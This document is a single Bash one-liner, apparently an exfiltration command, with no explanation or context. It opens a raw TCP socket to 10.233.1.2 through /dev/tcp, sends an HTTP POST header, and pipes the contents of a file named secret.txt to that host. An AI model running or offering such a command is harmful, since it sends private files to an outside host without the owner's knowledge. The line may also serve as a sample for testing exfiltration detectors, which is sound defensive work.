exec 3<>/dev/tcp/10.233.1.2/80; printf 'POST /U18 HTTP/1.0\r\n\r\n' >&3; cat /srv/rt/s/d1/home/secret.txt >&3; exec 3>&-
